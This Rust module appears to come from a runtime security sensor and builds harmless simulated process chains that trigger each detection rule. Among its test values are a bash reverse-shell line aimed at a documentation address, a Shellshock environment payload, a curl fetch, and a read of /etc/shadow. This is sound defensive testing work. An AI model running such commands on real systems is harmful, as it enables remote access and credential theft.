//! One harmless chain for each shipped rule, or why there is none.

use std::{
    collections::BTreeMap,
    net::SocketAddr,
    path::{Path, PathBuf},
};

use super::deed::{Deed, Exec, How};

/// An address nobody has (RFC 5737).
const NOBODY: [u8; 4] = [203, 0, 113, 7];
/// Loader of dynamic programs on x86-64 and aarch64.
pub(super) const LOADERS: [&str; 2] = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"];

/// A program that changes the user.
const SU: &str = "/usr/bin/su";
/// What shells are copied from.
pub(super) const SHELL: &str = "/bin/sh";
/// Passwords of users.
const SHADOW: &str = "/etc/shadow";
/// Directories that `--directory` may be below, of those in which everybody may write.
const WRITABLE: [&str; 6] = ["/tmp", "/var/tmp", "/dev", "/run", "/var/spool", "/var/log"];

/// What makes a rule alert.
pub(super) struct Scenario {
    /// Name and arguments of the server, from the zeroth.
    pub(super) server: Vec<String>,
    /// What its first process does.
    pub(super) deeds: Vec<Deed>,
}

/// Directories of a simulation.
pub(super) struct Stage {
    /// Everything is below it.
    pub(super) root: PathBuf,
}

/// A rule that is not simulated, and why.
pub(super) const NOT_SIMULATED: &[(&str, &str)] = &[
    ("cron_job_of_service_user", "would need a job of cron"),
    (
        "descendant_outlives_request",
        "would take more than a minute",
    ),
    ("events_lost", "would have to blind the sensor"),
    ("first_seen_child", "needs a profile in mode alert"),
    (
        "first_seen_child_of_edge_or_cgi",
        "needs a profile in mode alert",
    ),
    (
        "service_connects_to_new_port",
        "would take more than two minutes",
    ),
    (
        "server_module_changed",
        "would write into a directory of a server's configuration",
    ),
    (
        "server_module_changed_by_administrator",
        "would write into a directory of a server's configuration",
    ),
];

impl Stage {
    /// The chain for a rule; `None` when there is none.
    pub(super) fn scenario(&self, rule: &str) -> Option<Scenario> {
        let php = |deeds| Self::worker("php-fpm", deeds);
        let java = |deeds| Self::single("java", &["org.apache.catalina.startup.Bootstrap"], deeds);
        Some(match rule {
            "shell_under_app_worker" => php(vec![self.run("dash", &["sh", "-c", ":"])]),
            "hostile_shell_command" => php(vec![self.run(
                "bash",
                &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            )]),
            "recon_tool_under_service" => php(vec![self.run("id", &["id"])]),
            "network_tool_under_service" => {
                php(vec![self.run(
                    "curl",
                    &["curl", "-o", "/dev/null", "http://203.0.113.7/x"],
                )])
            }
            "interpreter_one_liner" => php(vec![self.run("python3", &["python3", "-c", "pass"])]),
            // Below a directory that is the sensor's own it is no such thing.
            "exec_from_writable_directory" => WRITABLE
                .iter()
                .any(|writable| self.root.starts_with(writable))
                .then(|| php(vec![self.run("tool", &["tool"])]))?,
            "memory_only_execution" => php(vec![
                self.exec("tool", &["tool"], |exec| exec.memory = true),
            ]),
            "masqueraded_server" => php(vec![self.run("nginx", &["nginx: worker process"])]),
            "masqueraded_shell" => php(vec![Deed::Exec(Box::new(Exec {
                path: Some(self.file("shell/report")).filter(|_| Path::new(SHELL).exists())?,
                argv: words(&["report", "-c", ":"]),
                ..Exec::default()
            }))]),
            "loader_started_shell" => php(vec![Deed::Exec(Box::new(Exec {
                path: loader()?,
                argv: words(&["ld.so", "/bin/sh", "-c", ":"]),
                ..Exec::default()
            }))]),
            "worker_replaced_itself" => java(vec![
                self.exec("tool", &["tool"], |exec| exec.in_place = true),
            ]),
            "daemonised_descendant" => php(vec![Deed::Orphan(vec![self.exec(
                "tool",
                &["tool"],
                |exec| exec.in_place = true,
            )])]),
            "preload_environment" => php(vec![self.exec("tool", &["tool"], |exec| {
                exec.env = self.preload();
            })]),
            "preload_of_written_library" => php(vec![
                self.write("x.so", How::Create),
                self.exec("tool", &["tool"], |exec| exec.env = self.preload()),
            ]),
            "java_lookup_then_spawn" => java(vec![
                Deed::Connect(SocketAddr::from((NOBODY, 1_389))),
                self.run("dash", &["sh", "-c", ":"]),
            ]),
            "java_page_deployed" => java(vec![self.write("webapps/ROOT/x.jsp", How::Create)]),
            "process_memory_written" => {
                java(vec![Deed::Write("/proc/self/mem".into(), How::Update)])
            }
            "interactive_shell_under_service" => php(vec![self.run("bash", &["bash", "-i"])]),
            // The real one, which prints its version; a copy would have no effect either.
            "privilege_change_below_service" => php(vec![Deed::Exec(Box::new(Exec {
                path: Some(PathBuf::from(SU)).filter(|su| su.exists())?,
                argv: words(&["su", "--version"]),
                nobody: true,
                ..Exec::default()
            }))]),
            "arguments_cut" => {
                let long = "x".repeat(8_192);
                php(vec![self.run("dash", &["sh", "-c", &long])])
            }
            "recon_burst_under_service" => php(["id", "uname", "ls"]
                .map(|tool| self.run(tool, &[tool]))
                .into()),
            "dropped_script_used" => php(vec![
                self.write("phpAbCdEf", How::Create),
                Deed::Rename(self.file("phpAbCdEf"), self.file("htdocs/uploads/x.php")),
                Deed::Read(self.file("htdocs/uploads/x.php")),
                self.run("dash", &["sh", "-c", ":"]),
            ]),
            _ => {
                let other = self.of_others(rule).or_else(|| self.of_java(rule));
                return other.or_else(|| self.of_files(rule));
            }
        })
    }

    /// Chains of edge servers, of servers of CGI and of databases.
    fn of_others(&self, rule: &str) -> Option<Scenario> {
        Some(match rule {
            "shellshock_environment" => Self::worker(
                "apache2",
                vec![self.exec("bash", &["bash", "-c", ":"], |exec| {
                    let value = "() { :;}; :".to_owned();
                    exec.env = BTreeMap::from([("HTTP_USER_AGENT".to_owned(), value)]);
                })],
            ),
            "edge_server_executed_program" => {
                Self::worker("nginx", vec![self.run("tool", &["tool"])])
            }
            "cgi_ran_unknown_script" => Self::worker(
                "fcgiwrap",
                vec![
                    self.write("htdocs/x.pl", How::Create),
                    self.run("perl", &["perl", &self.name("htdocs/x.pl")]),
                ],
            ),
            "database_spawned_program" => {
                Self::worker("postgres", vec![self.run("dash", &["sh", "-c", ":"])])
            }
            "database_wrote_script_or_library" => {
                Self::worker("postgres", vec![self.write("htdocs/x.php", How::Create)])
            }
            "database_loaded_library" => Self::worker(
                "postgres",
                vec![
                    self.write("x.so", How::Create),
                    Deed::Read(self.file("x.so")),
                ],
            ),
            "cgi_ran_script_of_own_user" => Self::worker(
                "fcgiwrap",
                vec![self.exec("perl", &["perl", &self.name("open.pl")], |exec| {
                    exec.deeds = vec![Deed::Read(self.file("open.pl"))];
                })],
            ),
            _ => return None,
        })
    }

    /// Chains of Java servers about files.
    fn of_java(&self, rule: &str) -> Option<Scenario> {
        let java = |deeds| Self::single("java", &["org.apache.catalina.startup.Bootstrap"], deeds);
        Some(match rule {
            "dropped_page_compiled" => java(vec![
                self.write("webapps/ROOT/x.jsp", How::Create),
                self.write(
                    "work/Catalina/localhost/ROOT/org/apache/jsp/x_jsp.class",
                    How::Create,
                ),
            ]),
            "java_agent_attached" => java(vec![
                self.write(".java_pid1.tmp", How::Create),
                Deed::Rename(self.file(".java_pid1.tmp"), self.file(".java_pid1")),
            ]),
            "java_attach_by_member" => java(vec![self.exec("tool", &["tool"], |exec| {
                exec.deeds = vec![self.write(".attach_pid1", How::Create)];
            })]),
            "plugin_dropped_by_server" => java(vec![self.write("plugins/x.jpi", How::Create)]),
            _ => return None,
        })
    }

    /// Chains whose point is a file or a connect.
    fn of_files(&self, rule: &str) -> Option<Scenario> {
        let php = |deeds| Self::worker("php-fpm", deeds);
        let connects = |program: &str, port| {
            self.exec(program, &[program], |exec| {
                exec.deeds = vec![Deed::Connect(SocketAddr::from((NOBODY, port)))];
            })
        };
        Some(match rule {
            "script_created_in_web_root" => php(vec![self.write("htdocs/x.php", How::Create)]),
            "script_created_in_upload_directory" => php(vec![
                self.write("phpAbCdEf", How::Create),
                Deed::Rename(self.file("phpAbCdEf"), self.file("htdocs/uploads/x.php")),
            ]),
            "script_created_in_cache_directory" => {
                php(vec![self.write("htdocs/var/cache/x.php", How::Create)])
            }
            "script_written_by_tool" => {
                php(vec![self.exec("curl", &["curl", "-o", "x.php"], |exec| {
                    exec.deeds = vec![self.write("htdocs/x.php", How::Create)];
                })])
            }
            "existing_script_modified" => php(vec![self.write("htdocs/old.php", How::Append)]),
            "entry_script_modified" => php(vec![self.write("htdocs/index.php", How::Append)]),
            "handler_file_changed" => {
                php(vec![self.write("htdocs/uploads/.htaccess", How::Create)])
            }
            "handler_file_rewritten" => php(vec![self.write("htdocs/.htaccess", How::Update)]),
            "sensitive_file_read" => php(vec![Deed::Read(
                Some(PathBuf::from(SHADOW)).filter(|shadow| shadow.exists())?,
            )]),
            "server_loaded_foreign_library" => php(vec![
                self.write("x.so", How::Create),
                Deed::Read(self.file("x.so")),
            ]),
            "opcache_file_changed" => php(vec![self.exec("cp", &["cp", "x", "y"], |exec| {
                exec.deeds = vec![self.write("htdocs/index.php.bin", How::Create)];
            })]),
            "persistence_file_written" => {
                php(vec![self.write("home/.ssh/authorized_keys", How::Create)])
            }
            "local_broker_reached" => php(vec![Deed::Knock(10_255)]),
            "written_file_executed" => php(vec![
                Deed::Exec(Box::new(Exec {
                    path: self.file("bin/cp"),
                    argv: words(&["cp", "tool", "fetched"]),
                    deeds: vec![Deed::Write(self.file("bin/fetched"), How::Append)],
                    ..Exec::default()
                })),
                self.run("fetched", &["fetched"]),
            ]),
            "written_script_run" => php(vec![
                self.write("x.sh", How::Create),
                self.exec("dash", &["sh", &self.name("x.sh")], |exec| {
                    exec.deeds = vec![Deed::Read(self.file("x.sh"))];
                }),
            ]),
            "shell_connects_out" => php(vec![connects("bash", 4_444)]),
            "interpreter_connects_out" => php(vec![connects("python3", 4_444)]),
            "interpreter_connects_inside" => {
                let inside = SocketAddr::from(([10, 255, 255, 254], 3_306));
                php(vec![self.exec("python3", &["python3", "job.py"], |exec| {
                    exec.deeds = vec![Deed::Connect(inside)];
                })])
            }
            _ => return None,
        })
    }

    /// A server whose worker does this.
    fn worker(name: &str, deeds: Vec<Deed>) -> Scenario {
        Self::single(name, &[], vec![Deed::Fork(deeds)])
    }

    /// A server of one process.
    fn single(name: &str, arguments: &[&str], deeds: Vec<Deed>) -> Scenario {
        let server = std::iter::once(name).chain(arguments.iter().copied());
        Scenario {
            server: server.map(str::to_owned).collect(),
            deeds,
        }
    }

    fn run(&self, program: &str, argv: &[&str]) -> Deed {
        self.exec(program, argv, |_| ())
    }

    fn exec(&self, program: &str, argv: &[&str], change: impl FnOnce(&mut Exec)) -> Deed {
        let mut exec = Exec {
            path: self.program(program),
            argv: words(argv),
            ..Exec::default()
        };
        change(&mut exec);
        Deed::Exec(Box::new(exec))
    }

    fn write(&self, name: &str, how: How) -> Deed {
        Deed::Write(self.file(name), how)
    }

    /// The copy of this binary under a name.
    pub(super) fn program(&self, name: &str) -> PathBuf {
        self.root.join("bin").join(name)
    }

    /// A file of the simulation.
    pub(super) fn file(&self, name: &str) -> PathBuf {
        self.root.join(name)
    }

    fn name(&self, name: &str) -> String {
        self.file(name).to_string_lossy().into_owned()
    }

    fn preload(&self) -> BTreeMap<String, String> {
        BTreeMap::from([("LD_PRELOAD".to_owned(), self.name("x.so"))])
    }
}

/// Every program that a scenario runs: copies of this binary.
pub(super) fn programs(deeds: &[Deed]) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for deed in deeds {
        match deed {
            Deed::Fork(deeds) | Deed::Orphan(deeds) => found.extend(programs(deeds)),
            Deed::Exec(exec) => {
                found.push(exec.path.clone());
                found.extend(programs(&exec.deeds));
            }
            _ => {}
        }
    }
    found
}

/// The loader of this machine's dynamic programs.
fn loader() -> Option<PathBuf> {
    let mut loaders = LOADERS.iter().map(PathBuf::from);
    loaders.find(|loader| loader.exists())
}

fn words(words: &[&str]) -> Vec<String> {
    words.iter().map(|&word| word.to_owned()).collect()
}
